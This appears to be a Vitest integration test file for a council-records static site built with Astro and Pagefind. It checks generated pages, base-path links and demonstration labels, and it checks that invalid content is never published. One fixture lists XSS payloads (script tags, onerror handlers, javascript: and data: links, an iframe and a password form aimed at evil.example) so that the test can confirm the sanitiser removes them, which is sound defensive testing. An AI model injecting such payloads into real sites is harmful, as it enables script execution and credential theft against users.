/**
 * The real build (validator, Astro, Pagefind) on real content: a page for every record and organisation,
 * demonstration records marked, the base path honoured, Markdown sanitised, and invalid content never
 * published. The builds run one after another in this file, as they share Astro's cache.
 */
import { spawnSync } from 'node:child_process';
import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, relative } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { contentFixture, removeFixtures, ROOT } from '../helpers/content.ts';

const work = mkdtempSync(join(tmpdir(), 'council-commons-build-'));
afterAll(() => {
  rmSync(work, { recursive: true, force: true });
  removeFixtures();
});

function build(env: NodeJS.ProcessEnv, script = 'scripts/build.ts') {
  // A variable given as undefined is left out of the child's environment.
  const childEnv = Object.fromEntries(
    Object.entries({ ...process.env, ASTRO_TELEMETRY_DISABLED: '1', ...env }).filter(([, value]) => value !== undefined),
  );
  const result = spawnSync(process.execPath, [join(ROOT, script), ...(script.endsWith('astro.mjs') ? ['build'] : [])], {
    cwd: ROOT,
    encoding: 'utf8',
    env: childEnv,
    maxBuffer: 64 * 1024 * 1024,
  });
  return { status: result.status, output: `${result.stdout}\n${result.stderr}` };
}

/** Every content file, as the page its path says it must have: an oracle independent of the build's own check. */
function pagesFromPaths(contentDir: string): string[] {
  const pages: string[] = [];
  const walk = (folder: string) => {
    for (const entry of readdirSync(folder, { withFileTypes: true })) {
      const path = join(folder, entry.name);
      if (entry.isDirectory()) walk(path);
      else {
        const parts = relative(contentDir, path).split('/');
        if (parts[0] === 'organisations') pages.push(`organisations/${parts[1].replace(/\.yaml$/, '')}/index.html`);
        else if (parts.length === 3) pages.push(`${parts[0]}/${parts[1]}/${parts[2].replace(/\.(md|yaml)$/, '')}/index.html`);
      }
    }
  };
  walk(contentDir);
  return pages;
}

/** A built page, with runs of whitespace made one space, as a browser shows them. */
const read = (out: string, page: string) => readFileSync(join(out, page), 'utf8').replace(/\s+/g, ' ');

/** The text a reader sees in some HTML: tags dropped, common entities decoded, whitespace collapsed. */
const textOf = (html: string) =>
  html
    .replace(/<(script|style)\b[\s\S]*?<\/\1>/g, ' ')
    .replace(/<[^>]+>/g, ' ')
    .replace(/&amp;/g, '&')
    .replace(/&#39;|&#x27;/g, "'")
    .replace(/&quot;/g, '"')
    .replace(/\s+/g, ' ')
    .trim();

describe('npm run build on the repository’s content', () => {
  const out = join(work, 'site');
  let result: ReturnType<typeof build>;
  beforeAll(() => {
    result = build({ HUB_OUT_DIR: out });
  });

  it('succeeds, through the validator, Astro and Pagefind', () => {
    expect(result.status, result.output.slice(-3000)).toBe(0);
    expect(result.output).toContain('▶ Validating');
    expect(result.output).toContain('▶ Indexing for search with Pagefind');
    expect(existsSync(join(out, 'pagefind/pagefind.js'))).toBe(true);
  });

  it('has a page for every record and every organisation file', () => {
    const expected = pagesFromPaths(join(ROOT, 'content'));
    expect(expected.length).toBeGreaterThan(460);
    expect(expected.filter((page) => !existsSync(join(out, page)))).toEqual([]);
  });

  it('shows a record’s fields, in words, with its organisation and licence', () => {
    const html = read(out, 'roadmap/kestrelford/garden-waste-online/index.html');
    expect(textOf(/<h1\b[^>]*>([\s\S]*?)<\/h1>/.exec(html)![1])).toBe('Garden waste subscriptions online');
    expect(textOf(html)).toContain('Roadmap item from Kestrelford');
    expect(html).toMatch(/<a [^>]*href="\/organisations\/kestrelford\/"[^>]*>Kestrelford<\/a>/);
    expect(textOf(html)).toContain('Start October 2025 End May 2026');
    expect(html).toMatch(
      new RegExp(
        /<a [^>]*href="http:\/\/www\.nationalarchives\.gov\.uk\/doc\/open-government-licence\/version\/3\/"/.source +
          /[^>]*>Open Government Licence v3\.0<\/a>/.source,
      ),
    );
  });

  it('marks demonstration records and organisations, and not real councils', () => {
    expect(textOf(read(out, 'lessons/fenmoor/school-admissions-chatbot/index.html'))).toContain('Demonstration record.');
    expect(textOf(read(out, 'organisations/fenmoor/index.html'))).toContain('Demonstration organisation.');
    const real = read(out, 'organisations/hartlepool/index.html');
    expect(real).not.toContain('Demonstration');
    expect(real).toContain('Nothing shared yet');
    expect(real).toContain('data from mySociety (CC BY 4.0)');
  });

  it('says a roadmap item past its review date may be out of date, and does not say it of a fresh one', () => {
    expect(textOf(read(out, 'roadmap/fenmoor/blue-badge-renewals-online/index.html'))).toContain(
      'This may be out of date: Fenmoor planned to review it by 30 June 2026.',
    );
    expect(read(out, 'roadmap/kestrelford/garden-waste-online/index.html')).not.toContain('out of date');
  });

  it('marks Welsh text as Welsh', () => {
    expect(read(out, 'roadmap/glanmor/garden-waste-renewals/index.html')).toMatch(/<p [^>]*lang="cy"[^>]*>Adnewyddu gwastraff gardd<\/p>/);
  });
});

describe('a build under a base path, with hostile Markdown', () => {
  const out = join(work, 'based');
  const content = contentFixture();
  let result: ReturnType<typeof build>;
  beforeAll(() => {
    writeFileSync(
      join(content, 'lessons/brackwater/hostile.md'),
      [
        '---',
        'title: A lesson with things in it that must not run',
        'summary: Every way of smuggling script into Markdown that we know of.',
        '---',
        '',
        '<script>alert("script")</script>',
        '<img src="x" onerror="alert(\'onerror\')">',
        '[click](javascript:alert("link")) and <a href="JaVaScRiPt:alert(1)">mixed case</a>',
        '<iframe src="https://evil.example/"></iframe>',
        '<svg><script>alert("svg")</script></svg>',
        '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
        '<form action="https://evil.example/"><input name="password"></form>',
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
        '',
        'Some **bold** text and a [safe link](https://www.ashdown.example/).',
        '',
      ].join('\n'),
    );
    // In two Astro processes, each rendering a share of the pages, as big sites are (src/lib/build-shard.ts).
    result = build({
      HUB_OUT_DIR: out,
      HUB_CONTENT_DIR: content,
      HUB_BASE: '/council-commons',
      HUB_SITE: 'https://example.github.io',
      HUB_BUILD_SHARDS: '2',
    });
  });

  it('succeeds', () => {
    expect(result.status, result.output.slice(-3000)).toBe(0);
  });

  it('puts the base path on every internal link', () => {
    const html = read(out, 'roadmap/ashdown/garden-waste-online/index.html');
    const hrefs = [...html.matchAll(/href="([^"]+)"/g)].map((match) => match[1]).filter((href) => href.startsWith('/'));
    expect(hrefs.length).toBeGreaterThan(5);
    expect(hrefs.filter((href) => !href.startsWith('/council-commons/'))).toEqual([]);
    expect(html).toContain('href="/council-commons/organisations/ashdown/"');
  });

  it('gives each page its public address from HUB_SITE and HUB_BASE', () => {
    expect(read(out, 'roadmap/ashdown/garden-waste-online/index.html')).toContain(
      '<link rel="canonical" href="https://example.github.io/council-commons/roadmap/ashdown/garden-waste-online/">',
    );
  });

  it('lets no script, handler, frame, form or unsafe address through from content', () => {
    const html = read(out, 'lessons/brackwater/hostile/index.html');
    const main = html.slice(html.indexOf('<main'), html.indexOf('</main>'));
    expect(main).not.toMatch(/<(script|iframe|form|meta|svg|object|embed|style)\b/i);
    expect(main).not.toMatch(/\son[a-z]+\s*=/i);
    const addresses = [...main.matchAll(/\s(?:href|src|action|formaction)\s*=\s*"([^"]*)"/gi)].map((match) => match[1]);
    expect(addresses.filter((address) => !/^(https?:|mailto:|\/|#|[a-z0-9._-]+$)/i.test(address))).toEqual([]);
    expect(main).toContain('<strong>bold</strong>');
    expect(main).toContain('<a href="https://www.ashdown.example/">safe link</a>');
  });

  it('renders the same pages when Astro is run directly, in one process, reading the content through its own content store', () => {
    // npm run build hands Astro the content it validated (src/hub/hub-entries.ts), here to two Astro
    // processes each rendering a share of the pages; astro dev and a bare astro build go through Astro's
    // collections, in one process. Both must give the same site, file for file.
    const direct = join(work, 'based-direct');
    // Without what Vitest adds to the environment (BASE_URL above all), as scripts/build.ts gives Astro.
    const unset = Object.fromEntries(['BASE_URL', 'MODE', 'DEV', 'PROD', 'SSR', 'NODE_ENV'].map((key) => [key, undefined]));
    const again = build(
      { ...unset, HUB_OUT_DIR: direct, HUB_CONTENT_DIR: content, HUB_BASE: '/council-commons', HUB_SITE: 'https://example.github.io' },
      'node_modules/astro/bin/astro.mjs',
    );
    expect(again.status, again.output.slice(-3000)).toBe(0);
    expect(result.output).toContain('Rendering the pages in 2 Astro processes at once');
    // Everything but what only npm run build adds (the search index and the sitemap), with the time each
    // file was made (feeds, open data) left out.
    const files = (folder: string) =>
      readdirSync(folder, { recursive: true, withFileTypes: true })
        .filter((entry) => entry.isFile())
        .map((entry) => relative(folder, join(entry.parentPath, entry.name)))
        .filter((file) => !file.startsWith('pagefind/') && !/^sitemap(-\d+)?\.xml$/.test(file))
        .sort();
    expect(files(direct)).toEqual(files(out));
    expect(files(out).filter((file) => file.endsWith('.html')).length).toBeGreaterThan(50);
    const withoutTimes = (file: string) =>
      readFileSync(file)
        .toString('latin1')
        .replace(/\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?Z/g, 'TIME');
    const different = files(out).filter((file) => withoutTimes(join(out, file)) !== withoutTimes(join(direct, file)));
    expect(different, 'files that differ between the two builds').toEqual([]);
  });
});

describe('a build from content with errors', () => {
  const out = join(work, 'kept');
  const content = contentFixture('enum');

  it('stops Astro before it makes a page, publishes nothing and leaves the last good site in place', () => {
    rmSync(out, { recursive: true, force: true });
    spawnSync('mkdir', ['-p', out]);
    writeFileSync(join(out, 'index.html'), 'the last good site');
    const result = build({ HUB_OUT_DIR: out, HUB_CONTENT_DIR: content });
    expect(result.status).toBe(1);
    expect(result.output).toContain('content/roadmap/ashdown/garden-waste-online.md');
    expect(result.output).toContain('Error (line 4, column 9, field status)');
    expect(result.output).toContain('so nothing was built or published');
    expect(result.output).not.toContain('Building the site with Astro');
    expect(readFileSync(join(out, 'index.html'), 'utf8')).toBe('the last good site');
    expect(existsSync(`${out}.staging`)).toBe(false);
  });

  it('fails astro build too, when someone runs Astro directly', () => {
    const result = build({ HUB_OUT_DIR: join(work, 'direct'), HUB_CONTENT_DIR: content }, 'node_modules/astro/bin/astro.mjs');
    expect(result.status).not.toBe(0);
    expect(result.output).toContain('The content has errors, so the hub cannot be built.');
    expect(result.output).toContain('content/roadmap/ashdown/garden-waste-online.md');
  });
});
